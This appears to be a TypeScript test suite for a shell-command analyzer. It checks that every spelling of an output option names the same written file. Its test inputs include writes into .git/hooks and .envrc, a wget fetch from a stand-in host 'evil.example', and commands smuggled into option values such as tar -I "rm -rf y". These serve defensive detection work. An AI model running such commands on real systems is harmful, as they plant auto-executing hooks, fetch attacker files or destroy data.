// Every spelling a getopt program accepts for an option's value names the same written file:
// generated from the writer table's own programs × spellings × where the option sits × other
// flags, parsed by bash's grammar and read through the table.
import * as assert from 'assert';
import fc from 'fast-check';
import { loadBashParser } from '../../../../src/core/shell/bashParser';
import { parseArgs } from '../../../../src/core/shell/writers/getopt';
import { splitCommandLine } from '../../../../src/core/shell/shellRules';

const words = (line: string) => line.split(' ').map(text => ({ text, known: true }));
const writes = (line: string) => splitCommandLine(line).writes.map(w => w.path);

/** Programs with a written-file option: [command, short letter, long name, a flag to bundle before, its input]. */
const OPTIONS: Array<[string, string | undefined, string | undefined, string, string]> = [
	['sort', 'o', 'output', 'r', 'in.txt'],
	['shuf', 'o', 'output', '', 'in.txt'],
	['iconv -f utf-8 -t utf-8', 'o', 'output', '', 'in.txt'],
	['tar -c', 'f', 'file', 'v', 'src'],
	['curl -s', 'o', 'output', '', 'file:///etc/hostname'],
	['wget -q', 'O', 'output-document', '', 'https://example.com/x'],
	['gcc -c', 'o', undefined, '', 'x.c'],
	['git diff --no-index', undefined, 'output', '', 'a b'],
	['git archive', 'o', 'output', '', 'HEAD'],
	['csplit -s', 'f', 'prefix', '', 'in.txt 1'],
];

function spellings(short: string | undefined, long: string | undefined, bundle: string): fc.Arbitrary<string> {
	const forms: string[] = [];
	if (short) forms.push(`-${short} {}`, `-${short}{}`);
	if (short && bundle) forms.push(`-${bundle}${short} {}`, `-${bundle}${short}{}`);
	if (long) forms.push(`--${long}={}`, `--${long} {}`, `--${long.slice(0, Math.max(4, long.length - 2))}={}`);
	return fc.constantFrom(...forms);
}

describe('writers: arguments that become file names', () => {
	before(() => loadBashParser());

	it('getopt reads attached, separate, = and bundled values alike', () => {
		const grammar = { valued: 'ok', longValued: ['output', 'key'], longFlags: ['reverse'] };
		for (const line of [
			'-o out x',
			'-oout x',
			'--output=out x',
			'--output out x',
			'--out=out x',
			'-roout x',
			'-r -o out x',
			'x -ro out',
		]) {
			const parsed = parseArgs(words(line), grammar);
			assert.deepStrictEqual(
				parsed.options
					.filter(o => o.value)
					.map(o => [o.name, o.value!.text])
					.at(-1)?.[1],
				'out',
				line,
			);
		}
		assert.deepStrictEqual(
			parseArgs(words('-k 2 -- -o'), grammar).operands.map(o => o.text),
			['-o'],
		);
	});

	it('every spelling of a written-file option names the same target', () => {
		for (const [program, short, long, bundle, input] of OPTIONS) {
			fc.assert(
				fc.property(
					spellings(short, long, bundle),
					fc.boolean(),
					fc.constantFrom('.git/hooks/pre-commit', '../out.txt', 'dir/x.y'),
					(spelling, after, target) => {
						const option = spelling.replace('{}', target);
						const line =
							after && !program.startsWith('git')
								? `${program} ${input} ${option}`
								: `${program} ${option} ${input}`;
						const found = writes(line);
						assert.ok(found.includes(target), `${line}: ${JSON.stringify(found)}`);
					},
				),
				{ numRuns: 30, seed: 7 },
			);
		}
	});

	it('positional and key=value writers, derived names, folders', () => {
		assert.deepStrictEqual(writes('uniq -c in.txt .git/hooks/x'), ['.git/hooks/x']);
		assert.deepStrictEqual(writes('dd if=a of=.vscode/t bs=1'), ['.vscode/t']);
		assert.deepStrictEqual(writes('zip -q .git/hooks/pre-commit a'), [
			'.git/hooks/pre-commit',
			'.git/hooks/pre-commit.zip',
		]);
		assert.deepStrictEqual(writes('wget https://evil.example/.envrc'), ['.envrc']);
		assert.deepStrictEqual(writes('gzip -k notes'), ['notes.gz']);
		assert.deepStrictEqual(writes('git init -q ../elsewhere'), ['../elsewhere']);
		assert.deepStrictEqual(writes('git clone -q . .vscode/r'), ['.vscode/r']);
		assert.deepStrictEqual(writes('git format-patch -o .github/x -1'), ['.github/x']);
		assert.deepStrictEqual(writes('split -l 1 a.txt .git/hooks/p'), ['.git/hooks/p']);
		assert.deepStrictEqual(
			writes('csplit -b %d -f x a 1').map(w => w ?? '?'),
			['?', 'x'],
		);
		assert.deepStrictEqual(
			writes('tar -xf a.tar').map(w => w ?? '?'),
			['?'],
		);
		assert.deepStrictEqual(writes('tar -tf a.tar'), []);
		assert.deepStrictEqual(writes('sort -o /dev/stdout x'), ['/dev/stdout']);
	});

	it('a command line an option runs is judged as a line', () => {
		const parsed = splitCommandLine('sort --compress-program="touch x" a');
		assert.ok(parsed.commands.some(c => c.text === 'touch x'));
		assert.ok(splitCommandLine('tar -I "rm -rf y" -cf a.tar src').commands.some(c => c.text === 'rm -rf y'));
	});

	it('ln -s targets are read from the link folder', () => {
		const parsed = splitCommandLine('ln -s ../.. a/b/up');
		assert.ok(parsed.operands.some(o => o.path === '../..' && o.from === 'a/b'));
	});
});
